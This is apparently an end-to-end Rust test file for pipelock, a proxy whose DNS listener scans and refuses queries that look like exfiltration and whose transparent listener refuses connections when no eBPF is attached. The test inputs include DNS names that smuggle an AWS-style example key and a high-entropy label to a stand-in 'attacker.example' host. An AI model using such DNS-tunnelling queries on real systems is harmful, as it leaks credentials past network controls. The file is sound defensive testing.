//! `pipelock run` with `intercept` enabled but no eBPF programs attached: the DNS listener
//! works on its own (a client sends to it directly; the resolver is a tiny one on
//! 127.0.0.2), and the transparent listener, which cannot learn any connection's original
//! destination, refuses every connection and says why.

use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::time::Duration;

use pipelock_e2e::dns_upstream::{query, DnsUpstream};
use pipelock_e2e::{curl_status_body, Pipelock};

/// A port free for UDP on 127.0.0.1 and [::1], and for TCP on 127.0.0.1, a moment ago.
fn free_ports() -> (u16, u16) {
    let pick = || {
        for _ in 0..50 {
            let v4 = UdpSocket::bind("127.0.0.1:0").expect("bind");
            let port = v4.local_addr().expect("addr").port();
            if UdpSocket::bind(("::1", port)).is_ok()
                && std::net::TcpListener::bind(("127.0.0.1", port)).is_ok()
                && std::net::TcpListener::bind(("::1", port)).is_ok()
            {
                return port;
            }
        }
        panic!("no free port pair found");
    };
    let a = pick();
    let mut b = pick();
    while b == a {
        b = pick();
    }
    (a, b)
}

fn start(
    mode: &str,
    upstream: SocketAddr,
) -> (Pipelock, tempfile::TempDir, SocketAddr, SocketAddr) {
    let (transparent_port, dns_port) = free_ports();
    let yaml = format!(
        "mode: {mode}\nlogging:\n  format: json\nintercept:\n  enabled: true\n  transparent_port: {transparent_port}\n  dns_port: {dns_port}\n  dns_upstream: \"{upstream}\"\n  peek_timeout_ms: 500\n"
    );
    let (mut pipelock, dir) = Pipelock::start_with_yaml(&yaml).expect("start");
    let dns = pipelock
        .wait_for_listener("dns", Duration::from_secs(10))
        .expect("dns listener");
    let transparent = pipelock
        .wait_for_listener("transparent", Duration::from_secs(10))
        .expect("transparent listener");
    (pipelock, dir, dns, transparent)
}

/// Sends `message` from a fresh socket to `to`; the reply, or `None` after `wait`.
fn exchange(to: SocketAddr, message: &[u8], wait: Duration) -> Option<Vec<u8>> {
    let local = if to.is_ipv4() {
        "127.0.0.1:0"
    } else {
        "[::1]:0"
    };
    let socket = UdpSocket::bind(local).expect("client socket");
    socket.set_read_timeout(Some(wait)).expect("timeout");
    socket.send_to(message, to).expect("send");
    let mut buf = [0u8; 4096];
    socket.recv(&mut buf).ok().map(|len| buf[..len].to_vec())
}

fn rcode(reply: &[u8]) -> u8 {
    reply[3] & 0x0f
}

fn metrics(pipelock: &Pipelock) -> String {
    let (code, body) =
        curl_status_body(&[], &format!("{}/metrics", pipelock.base_url())).expect("metrics");
    assert_eq!(code, 200, "{body}");
    body
}

/// A base32 label of 32 random-looking characters (20 bytes of entropy, no secret format).
const HIGH_ENTROPY_LABEL: &str = "r4oho4xetjiyggj5wbxcl6auvfdvxuqo";

#[test]
fn dns_queries_are_scanned_forwarded_byte_for_byte_or_refused() {
    let upstream = DnsUpstream::start(Ipv4Addr::new(127, 0, 0, 2), Ipv4Addr::new(127, 0, 0, 9))
        .expect("resolver");
    let (pipelock, _dir, dns, _) = start("balanced", upstream.addr);
    let wait = Duration::from_secs(5);

    // A clean query: answered exactly as the resolver answered, from both listeners.
    let clean = query(0x1111, "www.example.com", 1);
    let reply = exchange(dns, &clean, wait).expect("an answer");
    assert_eq!(
        upstream.sent().last(),
        Some(&reply),
        "the answer was relayed unchanged"
    );
    assert_eq!(rcode(&reply), 0);
    assert_eq!(&reply[..2], &[0x11, 0x11]);
    assert_eq!(&reply[reply.len() - 4..], &[127, 0, 0, 9]);
    assert_eq!(
        upstream.received().last(),
        Some(&clean),
        "the query was forwarded unchanged"
    );
    let dns6: SocketAddr = format!("[::1]:{}", dns.port()).parse().expect("v6");
    let reply6 = exchange(dns6, &query(0x1112, "api.example.org", 1), wait).expect("v6 answer");
    assert_eq!(upstream.sent().last(), Some(&reply6));

    // Secrets in the name: REFUSED with the question echoed; the resolver never sees them.
    let before = upstream.received().len();
    for (id, name) in [
        (0x2221, "AKIAIOSFODNN7EXAMPLE.attacker.example".to_string()),
        (0x2222, "AKIAIOSF.ODNN7EXAMPLE.attacker.example".to_string()),
        (0x2223, format!("{HIGH_ENTROPY_LABEL}.t.attacker.example")),
    ] {
        let blocked = query(id, &name, 1);
        let reply = exchange(dns, &blocked, wait).expect("a REFUSED answer");
        assert_eq!(rcode(&reply), 5, "{name}: {reply:?}");
        assert_eq!(&reply[..2], &id.to_be_bytes());
        assert_eq!(reply[2] & 0x80, 0x80, "a response");
        assert_eq!(&reply[4..6], &[0, 1], "one question");
        assert_eq!(&reply[12..], &blocked[12..], "the question echoed");
    }
    assert_eq!(
        upstream.received().len(),
        before,
        "nothing blocked reached the resolver"
    );

    // Malformed messages: FORMERR when the header parses, dropped when it does not; the
    // listener keeps serving.
    let mut truncated = query(0x3331, "example.com", 1);
    truncated.truncate(18);
    let reply = exchange(dns, &truncated, wait).expect("FORMERR");
    assert_eq!((&reply[..2], rcode(&reply)), (&[0x33, 0x31][..], 1));
    assert_eq!(
        exchange(dns, b"\x01\x02\x03", Duration::from_millis(500)),
        None
    );
    let reply = exchange(dns, &query(0x3333, "example.net", 1), wait).expect("still serving");
    assert_eq!(rcode(&reply), 0);
    assert_eq!(upstream.received().len(), before + 1);

    let text = metrics(&pipelock);
    for line in [
        r#"pipelock_dns_queries_total{verdict="allow"} 3"#,
        r#"pipelock_dns_queries_total{verdict="block"} 3"#,
        r#"pipelock_dns_queries_total{verdict="malformed"} 2"#,
    ] {
        assert!(text.contains(line), "missing {line}:\n{text}");
    }
    let logs = pipelock.stdout_lines().join("\n");
    assert!(logs.contains("DNS query refused"), "{logs}");
    assert!(
        logs.contains("dns.label_entropy"),
        "the entropy rule did not fire:\n{logs}"
    );
    assert!(
        !logs.contains("AKIAIOSFODNN7EXAMPLE"),
        "a log line carries the secret:\n{logs}"
    );
    assert!(
        !logs.contains(HIGH_ENTROPY_LABEL),
        "a log line carries the label:\n{logs}"
    );
}

#[test]
fn audit_mode_warns_and_forwards() {
    let upstream = DnsUpstream::start(Ipv4Addr::new(127, 0, 0, 2), Ipv4Addr::new(127, 0, 0, 9))
        .expect("resolver");
    let (pipelock, _dir, dns, _) = start("audit", upstream.addr);
    let secret = query(0x4441, "AKIAIOSFODNN7EXAMPLE.attacker.example", 1);
    let reply = exchange(dns, &secret, Duration::from_secs(5)).expect("an answer");
    assert_eq!(rcode(&reply), 0);
    assert_eq!(upstream.received().last(), Some(&secret));
    let text = metrics(&pipelock);
    assert!(
        text.contains(r#"pipelock_dns_queries_total{verdict="warn"} 1"#),
        "{text}"
    );
}

#[test]
fn without_ebpf_the_transparent_listener_refuses_every_connection() {
    let upstream = DnsUpstream::start(Ipv4Addr::new(127, 0, 0, 2), Ipv4Addr::new(127, 0, 0, 9))
        .expect("resolver");
    let (pipelock, _dir, _, transparent) = start("balanced", upstream.addr);
    let transparent6: SocketAddr = format!("[::1]:{}", transparent.port()).parse().expect("v6");
    for addr in [transparent, transparent6] {
        let mut client =
            TcpStream::connect_timeout(&addr, Duration::from_secs(5)).expect("connect");
        client
            .set_read_timeout(Some(Duration::from_secs(5)))
            .expect("timeout");
        // The write may race the close; what matters is that nothing comes back.
        let _ = client.write_all(b"GET / HTTP/1.1\r\nHost: example.com\r\n\r\n");
        let mut answer = Vec::new();
        let _ = client.read_to_end(&mut answer);
        assert!(
            answer.is_empty(),
            "{addr}: {}",
            String::from_utf8_lossy(&answer)
        );
    }
    let logs = pipelock.stdout_lines().join("\n");
    assert!(
        logs.contains("no eBPF interception attached"),
        "the refusal is not explained:\n{logs}"
    );
    let text = metrics(&pipelock);
    assert!(
        text.contains(r#"pipelock_transparent_connections_total{route="refused"} 2"#),
        "{text}"
    );
}
